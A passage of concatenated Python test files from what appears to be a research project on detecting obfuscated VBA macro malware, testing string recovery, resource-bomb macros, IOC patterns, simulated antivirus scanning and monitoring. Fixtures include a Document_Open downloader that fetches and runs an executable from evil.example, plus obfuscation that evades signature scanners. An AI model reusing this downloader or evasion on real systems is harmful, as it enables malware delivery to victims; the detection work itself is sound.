            RecoveredString(value=value, line=index + 1, origin="&")
            for index, value in enumerate(values)
        ),
        exhausted=exhausted,
    )


class TestSummaries:
    def test_empty_summary_row_is_zero(self):
        assert r_features_from_summary(EMPTY_SUMMARY).tolist() == [0.0] * 6

    def test_summary_counts_and_entropy(self):
        recovery = make_recovery("http://evil.example/a.exe", "ADODB.Stream")
        summary = summarize_recovery(recovery, raw_source="x = 1")
        assert summary.recovered_count == 2.0
        assert summary.recovered_chars == float(
            len("http://evil.example/a.exe") + len("ADODB.Stream")
        )
        assert summary.ioc_count >= 2.0
        assert summary.recovered_entropy > 0.0

    def test_entropy_delta_zero_when_nothing_recovered(self):
        summary = summarize_recovery(EMPTY_RECOVERY, raw_source="abcdefgh")
        row = summary.row()
        assert row[R_FEATURE_NAMES.index("R4_entropy_delta")] == 0.0

    def test_exhausted_flag_propagates(self):
        summary = summarize_recovery(make_recovery(exhausted=True), "src")
        assert summary.exhausted == 1.0


class TestBatchParity:
    def test_batch_rows_bit_identical_to_per_row(self):
        summaries = [
            summarize_recovery(
                make_recovery(f"payload-{i}" * (i + 1), exhausted=bool(i % 2)),
                raw_source="Sub A()\nEnd Sub" * (i + 1),
            )
            for i in range(17)
        ] + [EMPTY_SUMMARY]
        matrix = r_features_batch(summaries)
        assert matrix.shape == (18, len(R_FEATURE_NAMES))
        for index, summary in enumerate(summaries):
            row = r_features_from_summary(summary)
            assert np.array_equal(matrix[index], row)  # bit-identical

    def test_empty_batch(self):
        assert r_features_batch([]).shape == (0, len(R_FEATURE_NAMES))

    def test_registered_feature_set_matches_module_functions(self):
        feature_set = get_feature_set("R")
        assert feature_set.names == R_FEATURE_NAMES
        summary = summarize_recovery(make_recovery("some-payload"), "raw")
        assert np.array_equal(
            feature_set.extract(summary), r_features_from_summary(summary)
        )


class TestIocs:
    @pytest.mark.parametrize(
        "text, kind",
        [
            ("GET http://c2.example/beacon now", "url"),
            ("stealth hxxps://c2.example/b", "url"),
            ("connect 192.168.12.9 please", "ip"),
            ("drop to \\\\fileserv\\share\\x", "unc_path"),
            ("run loader.exe after", "exe"),
            ("powershell -enc AAA", "shell"),
            ("Sub auto_open()", "autoexec"),
            ("CreateObject call", "api"),
        ],
    )
    def test_each_kind_matches(self, text, kind):
        assert kind in {found for found, _match in find_iocs(text)}

    def test_benign_text_matches_nothing(self):
        assert find_iocs("totally ordinary sentence about quarterly totals") == []

    def test_count_and_kinds(self):
        values = ["http://a.example/x.exe", "powershell -nop"]
        assert count_iocs(values) >= 3
        kinds = ioc_kinds(values)
        assert set(kinds) >= {"url", "exe", "shell"}
        # kinds come back in IOC_PATTERNS declaration order, deduplicated
        assert list(kinds) == sorted(kinds, key=list(kinds).index)
