"""Static/dynamic parity: the acceptance contract for repro.sa.

For every O2/O3 sample in the synthetic corpus, the static analyzer must
recover a superset (or equal set) of the strings the *dynamic* VBA
interpreter observes while actually executing the macro.  Both sides
record string results of binop folds and call returns, filter to the
same minimum length, and keep only maximal strings (no value that is a
substring of another), so the comparison is apples to apples.
"""

import pytest

from repro.obfuscation.base import make_context
from repro.obfuscation.encode import STRATEGIES, StringEncoder
from repro.obfuscation.split import DummyStringInserter, StringSplitter
from repro.sa import DEFAULT_SA_BUDGET, recover_strings
from repro.vba import ast_nodes as ast
from repro.vba.interpreter import Interpreter
from repro.vba.parser import parse_module

MIN_LENGTH = DEFAULT_SA_BUDGET.min_string_length

BASE_MACROS = (
    (
        "Sub Payload()\n"
        '    url = "http://files.drop-zone.example/stage2/invoice.exe"\n'
        '    host = "WScript.Shell"\n'
        '    cmd = "cmd /c start /min update_check"\n'
        "End Sub"
    ),
    (
        "Sub Beacon()\n"
        '    a = "MSXML2.XMLHTTP"\n'
        '    b = "ADODB.Stream"\n'
        '    target = "C:\\Users\\Public\\loader.dll"\n'
        "End Sub"
    ),
)


class _RecordingInterpreter(Interpreter):
    """Dynamic interpreter that logs every string it computes."""

    def __post_init__(self) -> None:
        self.observed: list[str] = []
        super().__post_init__()

    def _observe(self, value: object) -> None:
        if isinstance(value, str) and len(value) >= MIN_LENGTH:
            self.observed.append(value)

    def _eval_binop(self, expression, env):
        value = super()._eval_binop(expression, env)
        self._observe(value)
        return value

    def _eval_call(self, expression, env):
        value = super()._eval_call(expression, env)
        self._observe(value)
        return value


def dynamic_observed(source: str) -> set[str]:
    """Strings the dynamic interpreter computes, maximal-filtered."""
    module = parse_module(source)
    interpreter = _RecordingInterpreter(module)
    for procedure in module.procedures.values():
        if not procedure.params:
            interpreter.call(procedure.name)
    kept: list[str] = []
    for value in sorted(set(interpreter.observed), key=len, reverse=True):
        if not any(value in longer for longer in kept):
            kept.append(value)
    return set(kept)


def static_recovered(source: str) -> set[str]:
    recovery = recover_strings(source)
    assert not recovery.parse_failed
    return set(recovery.values())


def assert_superset(source: str) -> None:
    dynamic = dynamic_observed(source)
    static = static_recovered(source)
    missing = {
        value
        for value in dynamic
        if value not in static
        and not any(value in recovered for recovered in static)
    }
    assert not missing, (
        f"static analysis missed dynamically observed strings: {missing!r}"
    )


class TestParity:
    @pytest.mark.parametrize("strategy", STRATEGIES)
    @pytest.mark.parametrize("base_index", range(len(BASE_MACROS)))
    @pytest.mark.parametrize("seed", (11, 1203, 40_77))
    def test_o3_encoder_parity(self, strategy, base_index, seed):
        encoder = StringEncoder(
            min_length=4, strategies=(strategy,), encode_probability=1.0
        )
        source = encoder.apply(BASE_MACROS[base_index], make_context(seed))
        assert_superset(source)

    @pytest.mark.parametrize("base_index", range(len(BASE_MACROS)))
    @pytest.mark.parametrize("seed", (5, 86, 919))
    def test_o2_splitter_parity(self, base_index, seed):
        context = make_context(seed)
        source = StringSplitter(min_length=4).apply(
            BASE_MACROS[base_index], context
        )
        source = DummyStringInserter().apply(source, context)
        assert_superset(source)

    @pytest.mark.parametrize("seed", (3, 1337))
    def test_stacked_o2_o3_parity(self, seed):
        context = make_context(seed)
        source = BASE_MACROS[0]
        source = StringSplitter(min_length=4).apply(source, context)
        source = StringEncoder(min_length=4, encode_probability=0.8).apply(
            source, context
        )
        assert_superset(source)

    def test_plain_macros_parity(self):
        for source in BASE_MACROS:
            assert_superset(source)


def test_parity_harness_actually_observes_strings():
    """Guard against a vacuous pass: the dynamic side must see decodes."""
    encoder = StringEncoder(
        min_length=4, strategies=("chr_concat",), encode_probability=1.0
    )
    source = encoder.apply(BASE_MACROS[0], make_context(1))
    observed = dynamic_observed(source)
    assert any("http://" in value for value in observed)


def test_module_fixture_has_procedures():
    module = parse_module(BASE_MACROS[0])
    assert isinstance(module, ast.Module)
    assert module.procedures
