"""Adversarial budget suite: the analyzer must be *total*.

Hostile macros are built to hang or blow up naive emulators — billion-
iteration loops, 10k-deep concat chains, self-feeding string growth,
recursion, exponential blowups.  Every one must come back as a
StringRecovery (flagged exhausted where a cap tripped), never an
exception, and bump the ``sa.budget_exhausted`` telemetry.
"""

import pytest

from repro.obs import MetricsRegistry
from repro.resilience import STRICT_SA_BUDGET, SABudget
from repro.sa import StringRecovery, recover_strings

BILLION_LOOP = (
    "Sub Hang()\n"
    "    For i = 1 To 1000000000\n"
    '        s = s & "x"\n'
    "    Next i\n"
    "End Sub"
)

DEEP_CONCAT = (
    "Sub Chain()\n"
    "    v = " + " & ".join(['"ab"'] * 10_000) + "\n"
    "End Sub"
)

SELF_FEEDING = (
    "Sub Grow()\n"
    '    s = "seed"\n'
    "    Do While 1 = 1\n"
    "        s = s & s\n"
    "    Loop\n"
    "End Sub"
)

RECURSION = (
    "Function Down(n)\n"
    "    Down = Down(n + 1)\n"
    "End Function\n"
    "Sub Run()\n"
    "    v = Down(0)\n"
    "End Sub"
)

EXPONENT_BOMB = (
    "Sub Bomb()\n"
    "    v = 2 ^ 1000000000\n"
    "End Sub"
)

SPACE_BOMB = (
    "Sub Bomb()\n"
    "    v = Space(2000000000) & String(2000000000, \"A\")\n"
    "End Sub"
)

STRING_FLOOD = (
    "Sub Flood()\n"
    "    For i = 1 To 100\n"
    '        v = "padpad" & i\n'
    "    Next i\n"
    "End Sub"
)

NESTED_LOOPS = (
    "Sub Nest()\n"
    "    For i = 1 To 100000\n"
    "        For j = 1 To 100000\n"
    "            For k = 1 To 100000\n"
    "                t = t + 1\n"
    "            Next k\n"
    "        Next j\n"
    "    Next i\n"
    "End Sub"
)

ADVERSARIAL = (
    BILLION_LOOP,
    DEEP_CONCAT,
    SELF_FEEDING,
    RECURSION,
    EXPONENT_BOMB,
    SPACE_BOMB,
    STRING_FLOOD,
    NESTED_LOOPS,
)


class TestTermination:
    @pytest.mark.parametrize("source", ADVERSARIAL, ids=lambda s: s.split("\n")[0])
    def test_never_raises_always_total(self, source):
        recovery = recover_strings(source)
        assert isinstance(recovery, StringRecovery)
        assert not recovery.parse_failed

    @pytest.mark.parametrize("source", ADVERSARIAL, ids=lambda s: s.split("\n")[0])
    def test_total_under_strict_budget_too(self, source):
        recovery = recover_strings(source, STRICT_SA_BUDGET)
        assert isinstance(recovery, StringRecovery)

    def test_billion_loop_flags_loop_budget(self):
        recovery = recover_strings(BILLION_LOOP)
        assert recovery.exhausted
        assert recovery.exhausted_reason == "loop_iterations"

    def test_deep_concat_still_terminates_and_recovers(self):
        recovery = recover_strings(DEEP_CONCAT)
        # The 10k-wide chain folds (left-spine iteration, no recursion) and
        # the 20k-char result is within the default string cap.
        assert "abab" in "".join(recovery.values())

    def test_self_feeding_growth_is_cut_off(self):
        recovery = recover_strings(SELF_FEEDING)
        assert recovery.exhausted
        total = sum(len(value) for value in recovery.values())
        assert total <= SABudget().max_string_length * 2

    def test_step_budget_aborts_with_partials(self):
        tiny = SABudget(max_steps=25)
        source = (
            "Sub Run()\n"
            + "\n".join(f'    v{i} = "value-{i}00"' for i in range(50))
            + "\nEnd Sub"
        )
        recovery = recover_strings(source, tiny)
        assert recovery.exhausted
        assert recovery.exhausted_reason == "steps"
        assert recovery.steps_used <= 25 + 1

    def test_string_flood_truncates_at_cap(self):
        tiny = SABudget(max_strings=8)
        recovery = recover_strings(STRING_FLOOD, tiny)
        assert recovery.truncated
        assert len(recovery.strings) <= 8


class TestTelemetry:
    def test_exhaustion_counters(self):
        registry = MetricsRegistry()
        recover_strings(BILLION_LOOP, metrics=registry)
        counters = registry.counters
        assert counters["sa.analyzed"].value == 1
        assert counters["sa.budget_exhausted"].value == 1
        assert counters["sa.budget_exhausted.loop_iterations"].value == 1

    def test_parse_failed_counter(self):
        registry = MetricsRegistry()
        recovery = recover_strings("Sub ((((", metrics=registry)
        if recovery.parse_failed:
            assert counters_value(registry, "sa.parse_failed") == 1

    def test_recovered_counter(self):
        registry = MetricsRegistry()
        recover_strings(
            'Sub A()\n    v = "conc" & "atenated"\nEnd Sub', metrics=registry
        )
        assert counters_value(registry, "sa.strings_recovered") == 1


def counters_value(registry: MetricsRegistry, name: str) -> int:
    counter = registry.counters.get(name)
    return 0 if counter is None else counter.value
