"""Constant-folding coverage for the repro.sa abstract interpreter.

Every decoder family the corpus obfuscator emits (and the classic shapes
from real samples) must fold back to the hidden literal without running
the macro.
"""

import random

import pytest

from repro.obfuscation.base import make_context
from repro.obfuscation.encode import STRATEGIES, StringEncoder
from repro.sa import DEFAULT_SA_BUDGET, recover_strings

SECRET = "http://malware-site.example/stage2/payload.exe"


def recovered_values(source: str, budget=None) -> list[str]:
    recovery = recover_strings(source, budget or DEFAULT_SA_BUDGET)
    assert not recovery.parse_failed
    return recovery.values()


class TestBuiltinFolding:
    @pytest.mark.parametrize(
        "expression, expected",
        [
            ('Chr(72) & Chr(105) & Chr(100) & Chr(101) & Chr(33)', "Hide!"),
            ('StrReverse("terces")', "secret"),
            ('Replace("paXYZyload", "XYZ", "")', "payload"),
            ('Mid("xxpayloadxx", 3, 7)', "payload"),
            ('Left("payload.exe", 7)', "payload"),
            ('Right("run payload", 7)', "payload"),
            ('UCase("shell32")', "SHELL32"),
            ('LCase("SHELL32")', "shell32"),
            ('"pay" + "load" + ".bin"', "payload.bin"),
            ('Chr(65 + 1) & Chr(130 / 2) & Chr(67) & Chr(68)', "BACD"),
            ('Chr(Asc("A") + 32) & "bcdef"', "abcdef"),
            ('String(6, "x")', "xxxxxx"),
            ('Trim("  padded  ")', "padded"),
        ],
    )
    def test_expression_folds(self, expression, expected):
        source = f"Sub Run()\n    value = {expression}\nEnd Sub"
        assert expected in recovered_values(source)

    def test_integer_arithmetic_feeds_chr(self):
        source = (
            "Sub Run()\n"
            "    key = 10\n"
            "    value = Chr(98 + key * 2 - 4) & Chr(111 \\ 1) & Chr(111 Mod 256) & Chr(109)\n"
            "End Sub"
        )
        assert "room" in recovered_values(source)

    def test_const_fragments_reassemble(self):
        source = (
            'Const a = "http://"\n'
            'Const b = "evil.test", c = "/x.exe"\n'
            "Sub Run()\n"
            "    u = a & b & c\n"
            "End Sub"
        )
        assert "http://evil.test/x.exe" in recovered_values(source)

    def test_only_maximal_strings_reported(self):
        source = (
            "Sub Run()\n"
            '    u = "http"\n'
            '    u = u & "://ex"\n'
            '    u = u & "ample.test"\n'
            "End Sub"
        )
        values = recovered_values(source)
        assert values == ["http://example.test"]


class TestControlFlowFolding:
    def test_concrete_for_loop_decode(self):
        source = (
            "Function Decode(src As Variant) As String\n"
            "    Dim acc As String\n"
            '    acc = ""\n'
            "    For idx = LBound(src) To UBound(src)\n"
            "        acc = acc & Chr(src(idx) - 5)\n"
            "    Next idx\n"
            "    Decode = acc\n"
            "End Function\n"
            "Sub Run()\n"
            "    value = Decode(Array(119, 106, 111, 106, 104, 121))\n"
            "End Sub"
        )
        assert "reject" in recovered_values(source)

    def test_do_while_decode(self):
        source = (
            "Sub Run()\n"
            '    src = "746f70"\n'
            "    idx = 1\n"
            '    acc = ""\n'
            "    Do While idx < Len(src)\n"
            '        acc = acc & Chr(Val("&H" & Mid(src, idx, 2)))\n'
            "        idx = idx + 2\n"
            "    Loop\n"
            "    acc = acc & \"-secret\"\n"
            "End Sub"
        )
        assert "top-secret" in recovered_values(source)

    def test_definite_branch_folds(self):
        source = (
            "Sub Run()\n"
            "    If 2 > 1 Then\n"
            '        value = "taken" & "-branch"\n'
            "    Else\n"
            '        value = "dead" & "-branch"\n'
            "    End If\n"
            "End Sub"
        )
        values = recovered_values(source)
        assert "taken-branch" in values
        assert "dead-branch" not in values

    def test_unknown_branch_records_both(self):
        source = (
            "Sub Run(flag)\n"
            "    If flag Then\n"
            '        value = "left" & "-payload"\n'
            "    Else\n"
            '        value = "right" & "-payload"\n'
            "    End If\n"
            "End Sub"
        )
        values = recovered_values(source)
        assert "left-payload" in values
        assert "right-payload" in values

    def test_unknown_values_stay_silent(self):
        source = (
            "Sub Run()\n"
            "    value = CreateObject(unknownThing).Run & \"tail\"\n"
            "End Sub"
        )
        recovery = recover_strings(source)
        assert not recovery.parse_failed
        assert "tail" not in "".join(recovery.values())


class TestObfuscatorStrategies:
    """Each StringEncoder strategy must fold back to the plain literal."""

    @pytest.mark.parametrize("strategy", STRATEGIES)
    def test_strategy_recovers_literal(self, strategy):
        plain = (
            "Sub Payload()\n"
            f'    url = "{SECRET}"\n'
            "End Sub"
        )
        encoder = StringEncoder(
            min_length=4, strategies=(strategy,), encode_probability=1.0
        )
        obfuscated = encoder.apply(plain, make_context(20240 + STRATEGIES.index(strategy)))
        assert SECRET not in obfuscated  # the transform actually hid it
        assert SECRET in recovered_values(obfuscated)

    def test_stacked_strategies_recover_all_literals(self):
        plain = (
            "Sub Payload()\n"
            f'    url = "{SECRET}"\n'
            '    app = "WScript.Shell"\n'
            '    cmd = "cmd /c start stage"\n'
            "End Sub"
        )
        rng = random.Random(99)
        encoder = StringEncoder(min_length=4, encode_probability=1.0)
        obfuscated = encoder.apply(plain, make_context(rng.randint(0, 10_000)))
        values = recovered_values(obfuscated)
        joined = "\n".join(values)
        for literal in (SECRET, "WScript.Shell", "cmd /c start stage"):
            assert literal in joined


class TestTotality:
    def test_parse_failure_is_flagged_not_raised(self):
        recovery = recover_strings("\x00\x01 not vba ((((")
        assert recovery.parse_failed or not recovery.values()

    def test_empty_source(self):
        recovery = recover_strings("")
        assert recovery.values() == []
        assert not recovery.exhausted
