"""Tests for the multi-vendor AV simulation."""

import random

import pytest

from repro.avsim.signatures import match_signatures
from repro.avsim.vendor import build_vendor_fleet
from repro.avsim.virustotal import (
    BENIGN_THRESHOLD,
    MALICIOUS_THRESHOLD,
    Verdict,
    VirusTotalSim,
    label_documents,
)
from repro.corpus.builder import CorpusBuilder, paper_profile
from repro.corpus.malicious import generate_malicious_macro
from repro.obfuscation.pipeline import default_pipeline

PLAIN_DOWNLOADER = (
    "Sub Document_Open()\n"
    "    Dim u As String\n"
    '    u = "http://evil.example/a.exe"\n'
    '    URLDownloadToFile 0, u, Environ("TEMP") & "\\a.exe", 0, 0\n'
    '    Shell Environ("TEMP") & "\\a.exe", 0\n'
    "End Sub\n"
)

BENIGN_MACRO = (
    "Sub FormatReport()\n"
    "    Range(\"A1:F1\").Font.Bold = True\n"
    "    Columns(\"A:F\").AutoFit\n"
    "End Sub\n"
)


class TestSignatures:
    def test_downloader_matches_many_signatures(self):
        hits = match_signatures(PLAIN_DOWNLOADER)
        names = {sig.name for sig in hits}
        assert "api.urlmon" in names
        assert "url.exe" in names

    def test_benign_macro_matches_nothing_strong(self):
        hits = match_signatures(BENIGN_MACRO)
        assert all(sig.weight == 0 for sig in hits)

    def test_signatures_case_insensitive(self):
        assert any(
            s.name == "api.urlmon"
            for s in match_signatures("urldownloadtofile 0, a, b, 0, 0")
        )


class TestVendorFleet:
    def test_fleet_size_and_uniqueness(self):
        fleet = build_vendor_fleet(60)
        assert len(fleet) == 60
        assert len({v.name for v in fleet}) == 60

    def test_fleet_deterministic(self):
        a = build_vendor_fleet(10, seed=1)
        b = build_vendor_fleet(10, seed=1)
        assert [v.name for v in a] == [v.name for v in b]

    def test_vendors_vary_in_coverage(self):
        fleet = build_vendor_fleet(30)
        sizes = {len(v.signatures) for v in fleet}
        assert len(sizes) > 3

    def test_most_vendors_catch_plain_downloader(self):
        fleet = build_vendor_fleet(60)
        detections = sum(1 for v in fleet if v.scan(PLAIN_DOWNLOADER))
        assert detections > MALICIOUS_THRESHOLD

    def test_no_vendor_flags_benign(self):
        fleet = build_vendor_fleet(60)
        detections = sum(1 for v in fleet if v.scan(BENIGN_MACRO))
        assert detections <= BENIGN_THRESHOLD


class TestVirusTotalSim:
    def test_plain_malware_verdict(self):
        report = VirusTotalSim().scan([PLAIN_DOWNLOADER])
        assert report.verdict is Verdict.MALICIOUS
        assert report.detections == len(report.flagged_by)

    def test_benign_verdict(self):
        report = VirusTotalSim().scan([BENIGN_MACRO])
        assert report.verdict is Verdict.BENIGN

    def test_document_flagged_when_any_macro_flagged(self):
        report = VirusTotalSim().scan([BENIGN_MACRO, PLAIN_DOWNLOADER])
        assert report.verdict is Verdict.MALICIOUS

    def test_empty_fleet_rejected(self):
        with pytest.raises(ValueError):
            VirusTotalSim(vendors=[])


class TestObfuscationEvadesSignatures:
    """The paper's core premise: obfuscation defeats signature AV."""

    def test_obfuscated_downloader_evades_most_vendors(self):
        scanner = VirusTotalSim()
        rng = random.Random(0)
        evasions = 0
        trials = 10
        for seed in range(trials):
            plain = generate_malicious_macro(rng, "word")
            obfuscated = default_pipeline().run(plain, seed=seed).source
            plain_detections = scanner.scan([plain]).detections
            obfuscated_detections = scanner.scan([obfuscated]).detections
            if obfuscated_detections < plain_detections:
                evasions += 1
        assert evasions >= trials * 0.8

    def test_obfuscation_drops_below_malicious_threshold(self):
        scanner = VirusTotalSim()
        plain_report = scanner.scan([PLAIN_DOWNLOADER])
        obfuscated = default_pipeline().run(PLAIN_DOWNLOADER, seed=3).source
        obfuscated_report = scanner.scan([obfuscated])
        assert plain_report.verdict is Verdict.MALICIOUS
        assert obfuscated_report.detections < plain_report.detections


class TestLabelingPipeline:
    def test_labeling_on_synthetic_corpus(self):
        corpus = CorpusBuilder(paper_profile().scaled(0.03), seed=11).build()
        outcome = label_documents(corpus.documents)
        total = len(corpus.documents)
        assert (
            outcome.labeled_benign + outcome.labeled_malicious == total
        )
        # The in-between band exists (obfuscated malware evades some vendors)
        # and manual inspection resolves it without mislabeling.
        assert outcome.mislabeled <= total * 0.15


class TestHashFeed:
    def test_blacklisted_macro_caught_despite_obfuscation(self):
        scanner = VirusTotalSim()
        obfuscated = default_pipeline().run(PLAIN_DOWNLOADER, seed=3).source
        before = scanner.scan([obfuscated]).detections
        scanner.blacklist_macro(obfuscated)
        after = scanner.scan([obfuscated]).detections
        assert after > before
        assert after > MALICIOUS_THRESHOLD

    def test_feed_subscription_is_partial(self):
        scanner = VirusTotalSim()
        scanner.blacklist_macro("some unique macro body")
        report = scanner.scan(["some unique macro body"])
        # ~70% of 60 vendors, never the whole fleet.
        assert 25 < report.detections < 60

    def test_feed_is_deterministic(self):
        a = VirusTotalSim()
        b = VirusTotalSim()
        a.blacklist_macro("x")
        b.blacklist_macro("x")
        assert a.scan(["x"]).flagged_by == b.scan(["x"]).flagged_by
