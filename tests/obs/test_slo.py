"""SLO declarations, config round-trips, and burn-rate evaluation."""

import json

import pytest

from repro.obs.metrics import MetricsRegistry
from repro.obs.slo import (
    DEFAULT_SLOS,
    Slo,
    dump_slos,
    evaluate_snapshot,
    evaluate_window,
    load_slos,
)
from repro.obs.windows import SlidingWindow


class TestSloDeclaration:
    def test_unknown_kind_rejected(self):
        with pytest.raises(ValueError, match="unknown SLO kind"):
            Slo("x", "latency_p99", histogram="span.x", target_s=1.0)

    def test_latency_needs_histogram_and_target(self):
        with pytest.raises(ValueError, match="latency_p95"):
            Slo("x", "latency_p95", target_s=1.0)
        with pytest.raises(ValueError, match="latency_p95"):
            Slo("x", "latency_p95", histogram="span.x", target_s=0.0)

    def test_error_budget_needs_ratio_and_budget(self):
        with pytest.raises(ValueError, match="error_budget"):
            Slo("x", "error_budget", numerator="a", budget=0.1)
        with pytest.raises(ValueError, match="error_budget"):
            Slo("x", "error_budget", numerator="a", denominator="b")

    def test_defaults_cover_every_stage_and_resilience_budget(self):
        names = {slo.name for slo in DEFAULT_SLOS}
        assert {
            "extract-p95", "classify-p95", "document-p95",
            "quarantine-rate", "degraded-rate", "timeout-rate",
        } <= names

    def test_to_dict_keeps_only_the_kind_relevant_fields(self):
        latency = Slo(
            "x", "latency_p95", histogram="span.x", target_s=1.0
        ).to_dict()
        assert set(latency) == {"name", "kind", "histogram", "target_s"}
        budget = Slo(
            "y", "error_budget", numerator="a", denominator="b", budget=0.1
        ).to_dict()
        assert set(budget) == {
            "name", "kind", "numerator", "denominator", "budget"
        }


class TestSloConfig:
    def test_dump_load_roundtrip(self, tmp_path):
        path = tmp_path / "slo.json"
        path.write_text(json.dumps(dump_slos()), encoding="utf-8")
        assert load_slos(path) == DEFAULT_SLOS

    def test_load_rejects_bad_files(self, tmp_path):
        bad = tmp_path / "bad.json"
        bad.write_text("nope", encoding="utf-8")
        with pytest.raises(ValueError, match="not JSON"):
            load_slos(bad)

        not_config = tmp_path / "not_config.json"
        not_config.write_text(json.dumps({"slos": "many"}))
        with pytest.raises(ValueError, match="'slos' list"):
            load_slos(not_config)

        wrong_schema = tmp_path / "schema.json"
        wrong_schema.write_text(json.dumps({"schema": "x/1", "slos": []}))
        with pytest.raises(ValueError, match="unknown SLO config schema"):
            load_slos(wrong_schema)

        empty = tmp_path / "empty.json"
        empty.write_text(json.dumps({"slos": []}))
        with pytest.raises(ValueError, match="no objectives"):
            load_slos(empty)

        bad_entry = tmp_path / "entry.json"
        bad_entry.write_text(
            json.dumps({"slos": [{"name": "x", "kind": "nope"}]})
        )
        with pytest.raises(ValueError, match=r"slos\[0\]"):
            load_slos(bad_entry)


def _snapshot(latencies=(), quarantined=0, documents=0):
    registry = MetricsRegistry()
    for value in latencies:
        registry.histogram("span.extract").observe(value)
    for _ in range(documents):
        registry.histogram("span.document").observe(0.01)
    if quarantined:
        registry.counter("resilience.quarantined").inc(quarantined)
    return registry.to_dict()


class TestEvaluateSnapshot:
    def test_idle_instruments_pass_with_no_samples(self):
        report = evaluate_snapshot(_snapshot())
        assert report.ok
        assert all(r.detail == "no samples" for r in report.results)
        assert report.window_s is None
        assert "cumulative" in report.render()

    def test_latency_violation_and_burn_rate(self):
        slos = (
            Slo("extract-p95", "latency_p95",
                histogram="span.extract", target_s=0.1),
        )
        report = evaluate_snapshot(_snapshot(latencies=[0.4] * 30), slos)
        (result,) = report.results
        assert not result.ok
        assert result.observed > 0.1
        assert result.burn_rate == pytest.approx(
            result.observed / 0.1, rel=1e-3
        )
        assert result.samples == 30
        assert "VIOLATED" in report.render()
        assert report.to_dict()["violated"] == ["extract-p95"]

    def test_error_budget_burn_rate(self):
        snapshot = _snapshot(quarantined=5, documents=50)
        report = evaluate_snapshot(snapshot)
        result = next(
            r for r in report.results if r.slo.name == "quarantine-rate"
        )
        assert not result.ok  # 10% quarantined vs a 2% budget
        assert result.observed == pytest.approx(0.1)
        assert result.burn_rate == pytest.approx(5.0)
        assert result.detail == "5/50"

    def test_within_budget_passes(self):
        report = evaluate_snapshot(_snapshot(quarantined=1, documents=100))
        result = next(
            r for r in report.results if r.slo.name == "quarantine-rate"
        )
        assert result.ok
        assert result.burn_rate == pytest.approx(0.5)


class TestEvaluateWindow:
    def test_window_report_carries_the_window_span(self):
        clock = {"now": 0.0}
        window = SlidingWindow(10.0, 5, clock=lambda: clock["now"])
        registry = MetricsRegistry()
        window.tick(registry)
        for _ in range(10):
            registry.histogram("span.document").observe(0.01)
        registry.counter("resilience.quarantined").inc(4)
        clock["now"] = 2.0
        report = evaluate_window(window.view(registry))
        assert report.window_s == 10.0
        assert "last 10s window" in report.render()
        result = next(
            r for r in report.results if r.slo.name == "quarantine-rate"
        )
        assert not result.ok  # 40% in-window quarantine rate
        assert result.observed == pytest.approx(0.4)

    def test_old_burn_falls_out_of_the_window(self):
        clock = {"now": 0.0}
        window = SlidingWindow(10.0, 5, clock=lambda: clock["now"])
        registry = MetricsRegistry()
        registry.counter("resilience.quarantined").inc(10)
        for _ in range(10):
            registry.histogram("span.document").observe(0.01)
        window.tick(registry)  # the bad past, snapshotted
        for step in range(15):
            clock["now"] = float(step)
            window.tick(registry)
            for _ in range(4):
                registry.histogram("span.document").observe(0.01)
        clock["now"] = 15.0
        report = evaluate_window(window.view(registry))
        result = next(
            r for r in report.results if r.slo.name == "quarantine-rate"
        )
        # Cumulative rate is 10/70, but the window saw zero quarantines.
        assert result.ok
        assert result.observed == pytest.approx(0.0)
        cumulative = evaluate_snapshot(registry.to_dict())
        bad = next(
            r for r in cumulative.results
            if r.slo.name == "quarantine-rate"
        )
        assert not bad.ok
