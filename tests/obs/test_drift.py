"""Drift scoring: PSI/KL math, profile artifacts, the live monitor."""

import json
import math

import pytest

from repro.obs.drift import (
    DriftMonitor,
    DriftThresholds,
    capture_profile,
    kl_divergence,
    psi,
    read_profile,
    score_drift,
    write_profile,
)
from repro.obs.metrics import SCORE_BUCKETS, MetricsRegistry


def _score_registry(values, rules=(), feature_columns=()):
    """A registry shaped like post-run state: scores, rules, features."""
    registry = MetricsRegistry()
    if values:
        histogram = registry.histogram("score.probability", SCORE_BUCKETS)
        for value in values:
            histogram.observe(value)
    for rule, count in rules:
        registry.counter(f"lint.rule.{rule}").inc(count)
    for column, samples in feature_columns:
        moment = registry.moment(column)
        for sample in samples:
            moment.observe(sample)
    return registry


class TestDivergences:
    def test_psi_of_identical_distributions_is_zero(self):
        assert psi([10, 20, 30], [10, 20, 30]) == pytest.approx(0.0)

    def test_psi_grows_with_shift(self):
        mild = psi([30, 30, 30], [30, 35, 25])
        wild = psi([90, 5, 5], [5, 5, 90])
        assert 0.0 < mild < wild
        assert wild > 0.25  # folklore "drifted" threshold

    def test_psi_novel_bucket_is_large_but_finite(self):
        value = psi([100, 0, 0], [0, 0, 100])
        assert math.isfinite(value)
        assert value > 1.0

    def test_psi_rejects_misaligned_vectors(self):
        with pytest.raises(ValueError):
            psi([1, 2], [1, 2, 3])

    def test_kl_identity_and_positivity(self):
        assert kl_divergence([5, 5], [5, 5]) == pytest.approx(0.0)
        assert kl_divergence([9, 1], [1, 9]) > 0.0
        with pytest.raises(ValueError):
            kl_divergence([1], [1, 2])


class TestProfileArtifacts:
    def test_capture_drops_the_event_buffer(self):
        registry = MetricsRegistry(trace=True)
        with registry.span("extract"):
            pass
        profile = capture_profile(
            registry, source="unit test", documents=3
        )
        assert profile["schema"] == "repro.baseline/1"
        assert profile["source"] == "unit test"
        assert profile["documents"] == 3
        assert "events" not in profile["metrics"]
        assert "span.extract" in profile["metrics"]["histograms"]

    def test_roundtrip_through_disk(self, tmp_path):
        registry = _score_registry([0.1, 0.9])
        path = tmp_path / "baseline.json"
        write_profile(path, capture_profile(registry))
        loaded = read_profile(path)
        expected = registry.to_dict()
        expected.pop("events")  # capture_profile drops the event buffer
        assert loaded["metrics"] == expected

    def test_read_rejects_garbage(self, tmp_path):
        bad_json = tmp_path / "bad.json"
        bad_json.write_text("{not json", encoding="utf-8")
        with pytest.raises(ValueError, match="not JSON"):
            read_profile(bad_json)

        no_metrics = tmp_path / "no_metrics.json"
        no_metrics.write_text(json.dumps({"schema": "repro.baseline/1"}))
        with pytest.raises(ValueError, match="not a baseline"):
            read_profile(no_metrics)

        wrong_schema = tmp_path / "wrong.json"
        wrong_schema.write_text(
            json.dumps({"schema": "other/9", "metrics": {}})
        )
        with pytest.raises(ValueError, match="unknown profile schema"):
            read_profile(wrong_schema)


class TestScoreDrift:
    def test_empty_snapshots_have_no_dimensions(self):
        report = score_drift({}, {})
        assert report.dimensions == []
        assert report.ok
        assert "no comparable dimensions" in report.render()

    def test_score_histogram_shift_is_flagged(self):
